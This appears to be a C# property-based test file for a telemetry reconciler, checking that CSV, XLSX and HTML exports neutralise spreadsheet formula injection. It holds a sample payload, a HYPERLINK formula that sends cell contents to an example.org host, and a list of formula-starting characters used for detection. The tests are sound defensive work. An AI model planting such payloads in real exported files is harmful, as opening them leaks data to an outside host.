using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using CsCheck;
using TaserTelemetry.Reconciler.Findings;
using TaserTelemetry.Reconciler.Import;
using TaserTelemetry.Reconciler.Inputs;
using TaserTelemetry.Reconciler.Output;
using TaserTelemetry.Reconciler.Returns;

namespace TaserTelemetry.Reconciler.Tests;

/// <summary>What other people's files hold never runs when a spreadsheet opens what we write.</summary>
public sealed partial class FormulaTests
{
    private const string Starts = "=+-@\t\r|%\uFF1D\uFF0B\uFF0D\uFF20";
    private const string Evil = "=HYPERLINK(\"http://example.org/?\"&A1)";

    [Fact]
    public void No_cell_of_ours_begins_a_formula_whatever_it_was_made_of() =>
        Gen.Select(OneOf("", " ", "  ", "\u00A0", "\uFEFF", "\u200B", "\n"), Gen.Char[Starts], Gen.String[Gen.Char[' ', '~'], 0, 10])
            .Sample(
                (before, start, after) =>
                {
                    string cell = before + start + after;
                    var table = new OutputTable("t", ["A", "B"], [(IReadOnlyList<object>)[cell, 1], ["plain", cell]]);
                    Assert.All(CsvCells(table), c => Assert.False(BeginsFormula(c), c));
                    Assert.All(BookCells([table]), c => Assert.False(BeginsFormula(c), c));
                    Assert.Contains("'" + cell, CsvCells(table));
                },
                iter: 1_000
            );

    [Fact]
    public void Formulas_in_every_file_name_cell_and_comment_stay_text_in_CSV_XLSX_and_HTML()
    {
        var result = EvilResult();
        Assert.NotEmpty(result.Findings);
        Assert.NotEmpty(result.Imports.SelectMany(i => i.Rejects));
        foreach (var table in ResultTables.All(result))
        {
            Assert.All(CsvCells(table), c => Assert.False(BeginsFormula(c), table.Name + ": " + c));
        }

        Assert.All(BookCells(ResultTables.All(result)), c => Assert.False(BeginsFormula(c), c));
        using var html = new MemoryStream();
        HtmlOutput.Write(result, html);
        string page = Encoding.UTF8.GetString(html.ToArray());
        var texts = Element().Matches(page).Select(m => WebUtility.HtmlDecode(Tag().Replace(m.Groups["text"].Value, ""))).ToList();
        Assert.True(texts.Count > 50);
        Assert.Contains(texts, t => t.Contains("HYPERLINK", StringComparison.Ordinal));
        Assert.All(texts, t => Assert.False(BeginsFormula(t), t));
    }

    /// <summary>A run in which every text that people can write is a formula: serials, ids, references, a file, a profile, a comment.</summary>
    private static ReconciliationResult EvilResult()
    {
        var scene = new Scene().Model(Evil, "X2").Use(Evil, 600, 6_000, deploy: true, cycles: 3);
        var inputs = scene.Inputs();
        string cell = "\"" + Evil.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        var devices = RegisterImporter.Import(
            new Registers.RegisterSet(),
            RegisterKind.Devices,
            "=devices.csv",
            Scene.Stream(
                $"DeviceSerial,Model,Armoury,Status,FirstInService\n{cell},X2,{cell},{cell},{Scene.At(-1440)}\n{cell},{cell},,,{cell}\n"
            )
        );
        var profile = Profile.BuiltIn("plain")! with { Name = "@profile" };
        string rows =
            $"{cell},1,,{cell},{cell},{Scene.At(600)},{cell},Drawn,9\n{cell}2,1,,{cell},{cell},{cell},{cell},Fired,1\n=3,1,,+1,-1,{Scene.At(3000)},@x,Fired,1\n";
        var import = ReportImporter.Import(
            "+reports.csv",
            Scene.Stream(
                "ReportId,Version,SubmittedAt,OfficerRef,IncidentRef,UsedAt,DeviceSerial,Level,Cycles,=unknown\n"
                    + rows.Replace("\n", ",\n", StringComparison.Ordinal)
            ),
            profile
        );
        var result = Reconciliation.Run(
            inputs with
            {
                Registers = devices.Registers,
                Reports = import.Reports,
                ReportColumns = import.Columns,
                Imports = [import.Answer, devices.Answer],
            },
            scene.Rules,
            scene.AsOf
        );
        var comment = new DecisionComment(CommentState.Shown, "-2+3" + Evil);
        return result with
        {
            Decisions =
            [
                .. result.Findings.Select(f => new DecisionLine(
                    "Finding",
                    f.Id,
                    "explained",
                    "a1",
                    0,
                    comment,
                    DecisionStanding.FactsChanged,
                    default
                )),
                new DecisionLine("Finding", Evil, "explained", Evil, 0, comment, DecisionStanding.NoLongerRaised, default),
                new DecisionLine("Use", result.Uses[0].UseId, "within-policy", Evil, 0, comment, DecisionStanding.FactsUnchanged, default),
            ],
        };
    }

    [Fact]
    public void The_tables_of_return_programme_and_sample_hold_no_formula_either()
    {
        var scene = RuleScenes.Everything();
        var inputs = scene.Inputs();
        var result = EvilResult();
        OutputTable[] tables =
        [
            ProgrammeEvidence.Table(inputs, result, publicVersion: false),
            ProgrammeEvidence.Table(inputs, result, publicVersion: true),
            AuditSample.Draw(result, new byte[32], 1_000_000, 50).Table(),
        ];
        foreach (var table in tables)
        {
            Assert.All(CsvCells(table), c => Assert.False(BeginsFormula(c), table.Name + ": " + c));
        }

        using var page = new MemoryStream();
        var evil = new OutputTable(
            "evil",
            ["Section", Evil, "Low95", "High95"],
            [
                [Evil, Evil, 1.0, 2.0],
            ]
        );
        HtmlTables.Write("Programme", result, [.. tables, evil], page);
        string html = Encoding.UTF8.GetString(page.ToArray());
        Assert.DoesNotContain(Evil, html, StringComparison.Ordinal);
        Assert.DoesNotContain(">=", html, StringComparison.Ordinal);
    }

    private static Gen<T> OneOf<T>(params T[] values) => Gen.Int[0, values.Length - 1].Select(i => values[i]);

    private static List<string> CsvCells(OutputTable table)
    {
        using var csv = new MemoryStream();
        CsvOutput.Write(table, csv);
        string text = Encoding.UTF8.GetString(csv.ToArray()).TrimStart('\uFEFF');
        return [.. CsvTable.Read(text, ',').SelectMany(r => r.Cells)];
    }

    private static List<string> BookCells(IReadOnlyList<OutputTable> tables)
    {
        using var book = new MemoryStream();
        XlsxOutput.Write(tables, book);
        Assert.DoesNotContain("<f>", Encoding.UTF8.GetString(book.ToArray()), StringComparison.Ordinal);
        return [.. XlsxTable.Read(book.ToArray()).SelectMany(r => r.Cells)];
    }

    /// <summary>As a spreadsheet would take it: white space before does not save it. A number of ours may be below zero.</summary>
    private static bool BeginsFormula(string cell)
    {
        string text = cell.TrimStart(' ', '\u00A0', '\uFEFF', '\u200B', '\n');
        return text.Length > 0
            && Starts.Contains(text[0])
            && !double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _);
    }

    [GeneratedRegex(@"<(?<e>td|th|li|p|dt|dd|caption|h3|code|title|desc|summary)\b[^>]*>(?<text>.*?)</\k<e>>", RegexOptions.Singleline)]
    private static partial Regex Element();

    [GeneratedRegex("<[^>]*>")]
    private static partial Regex Tag();
}
